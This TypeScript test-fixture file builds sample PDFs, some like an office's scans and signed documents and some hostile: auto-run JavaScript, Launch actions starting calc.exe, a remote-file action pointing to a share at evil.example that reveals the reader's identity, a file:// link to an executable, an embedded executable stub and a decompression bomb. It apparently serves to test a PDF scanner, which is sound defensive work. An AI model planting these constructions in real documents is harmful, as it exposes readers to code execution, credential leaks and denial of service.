/** PDFs for tests: documents as an office sends them, and hostile ones. */
import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';

type Options = ConstructorParameters<typeof PDFDocument>[0];

/** Writes lines on A4 pages, as a registry's program does: long lines wrap at the margin. */
export async function pagesPdf(
  pages: readonly (readonly string[])[],
  options: Options = {},
): Promise<Uint8Array<ArrayBuffer>> {
  const pdf = new PDFDocument({ size: 'A4', margin: 56, autoFirstPage: false, ...options });
  for (const lines of pages) {
    pdf.addPage().font('Helvetica').fontSize(9.5);
    for (const line of lines)
      if (line === '') pdf.moveDown(0.6);
      else pdf.text(line, { align: 'justify' });
  }
  pdf.end();
  return new Uint8Array(await buffer(pdf));
}

/** Writes a PDF with these objects, the first of which is its catalogue. */
export function rawPdf(objects: readonly (string | Buffer)[]): Uint8Array<ArrayBuffer> {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = parts[0]?.length ?? 0;
  const add = (part: Buffer) => {
    parts.push(part);
    at += part.length;
  };
  for (const [index, object] of objects.entries()) {
    offsets.push(at);
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]));
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  add(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return new Uint8Array(Buffer.concat(parts));
}

export const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
export const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
export const catalogue = (more: string) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
export const stream = (content: Buffer, dictionary: string) =>
  Buffer.concat([
    Buffer.from(`<< /Length ${content.length} ${dictionary} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);

/** Runs a script when it opens; the names may be escaped. */
export const scriptedPdf = (name = '/JavaScript') =>
  rawPdf([catalogue(`/OpenAction << /S ${name} /JS (app.alert\\(1\\)) >>`), PAGES, PAGE]);

/** Gives its reader a command when it opens. */
export const commandingPdf = (command: string) =>
  rawPdf([catalogue(`/OpenAction << /S /Named /N /${command} >>`), PAGES, PAGE]);

/** Starts a program when it opens. */
export const launchingPdf = (name = '/Launch') =>
  rawPdf([catalogue(`/OpenAction << /S ${name} /F (calc.exe) >>`), PAGES, PAGE]);

/** Starts a program by an action in a compressed object stream, whose dictionary says this. */
export const packedLaunchPdf = (entries = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
  rawPdf([
    catalogue('/OpenAction 9 0 R'),
    PAGES,
    PAGE,
    stream(deflateSync(Buffer.from('9 0 << /S /Launch /F (calc.exe) >>')), entries),
  ]);

/** Has a form field that a script checks, as an office's forms do. */
export const fieldScriptPdf = () =>
  rawPdf([
    catalogue('/AcroForm << /Fields [4 0 R] >>'),
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (nif) /Rect [0 0 9 9] /P 3 0 R
      /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(0, 0, 0, 0, "", true\\)) >> >> >>`,
  ]);

/** Opens a file in somebody's network when it opens, which tells that network who the reader is. */
export const remotePdf = (key = '/OpenAction') =>
  rawPdf([
    catalogue(`${key} << /S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.example\\\\s\\\\a.pdf) >>`),
    PAGES,
    PAGE,
  ]);

/** Links to a share; the string may be written in any way. */
export const sharePdf = (address: string) =>
  rawPdf([
    catalogue(''),
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /URI /URI ${address} >> >>`,
  ]);

/** Links to the reader's own machine by an address that is another object. */
export const distantSharePdf = () =>
  rawPdf([
    catalogue(''),
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /URI /URI 5 0 R >> >>',
    '(file:///c:/a.exe)',
  ]);

/** A form of Adobe's own kind with a script. */
export const xfaPdf = (key = '/XFA') =>
  rawPdf([
    catalogue(`/AcroForm << /Fields [] ${key} 4 0 R >>`),
    PAGES,
    PAGE,
    stream(deflateSync(Buffer.from('<xdp><script>app.alert(1)</script></xdp>')), '/Filter /FlateDecode'),
  ]);

/** Has a file attached, under a name as a PDF writes it. */
export const attachingPdf = (name: string, contents = '<< /F 5 0 R >>') =>
  rawPdf([
    catalogue('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>'),
    PAGES,
    PAGE,
    `<< /Type /Filespec /F ${name} /UF ${name} /EF ${contents} >>`,
    stream(Buffer.from('MZ'), '/Type /EmbeddedFile'),
  ]);

/** A scan as an office's machine makes it: a picture on each page, its parts in an object stream. */
export function scannedPdf(): Uint8Array<ArrayBuffer> {
  const picture = deflateSync(Buffer.alloc(100 * 140, 200));
  const info = '<< /Producer (Scanner \\(A4\\)) /CreationDate (D:20261126100000) >>';
  return rawPdf([
    catalogue('/OpenAction [3 0 R /Fit] /PageMode /UseNone'),
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>',
    stream(
      picture,
      '/Type /XObject /Subtype /Image /Width 100 /Height 140 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode',
    ),
    stream(Buffer.from('q 595 0 0 842 0 0 cm /Im0 Do Q'), ''),
    stream(deflateSync(Buffer.from(`9 0 ${info}`)), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
  ]);
}

/** A signed document: a signature's field and value, and a link to where its code is checked. */
export const signedPdf = () =>
  rawPdf([
    catalogue('/AcroForm << /Fields [4 0 R] /SigFlags 3 >> /Perms << /DocMDP 5 0 R >>'),
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 6 0 R] >>',
    '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /V 5 0 R /F 132 /Rect [0 0 0 0] /P 3 0 R >>',
    `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 100 200 300]
      /Contents <${'30820A'.padEnd(400, '0')}> /M (D:20261126100000+01'00') /Reason (Firma) >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /URI /URI (https://sede.registradores.example/csv) >> >>',
  ]);

/** Needs a password to open. */
export const encryptedPdf = () => pagesPdf([['secreto']], { userPassword: 'invented', pdfVersion: '1.7' });

/** Misstates the place of its cross-reference table. */
export async function brokenXrefPdf(): Promise<Uint8Array<ArrayBuffer>> {
  const text = Buffer.from(await pagesPdf([['nota']])).toString('latin1');
  return new Uint8Array(Buffer.from(text.replace(/startxref\n\d+/, 'startxref\n7'), 'latin1'));
}

/** Has this many empty pages. */
export function manyPagesPdf(count: number): Uint8Array<ArrayBuffer> {
  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ');
  return rawPdf([
    catalogue(''),
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    ...Array.from({ length: count }, () => PAGE),
  ]);
}

/** Unpacks to two gigabytes of blanks in the content of its page. */
export function bombPdf(): Uint8Array<ArrayBuffer> {
  const once = deflateSync(Buffer.alloc(64 * 1024 * 1024, 32), { level: 9 });
  const many = Buffer.concat(Array.from({ length: 1 }, () => once));
  // Ten layers of compression around the first one multiply it.
  const twice = deflateSync(Buffer.concat(Array.from({ length: 1 }, () => many)), { level: 9 });
  const content = stream(twice, '/Filter [/FlateDecode /FlateDecode]');
  const refs = Array.from({ length: 40 }, () => '4 0 R').join(' ');
  return rawPdf([
    catalogue(''),
    PAGES,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [${refs}] >>`,
    content,
  ]);
}
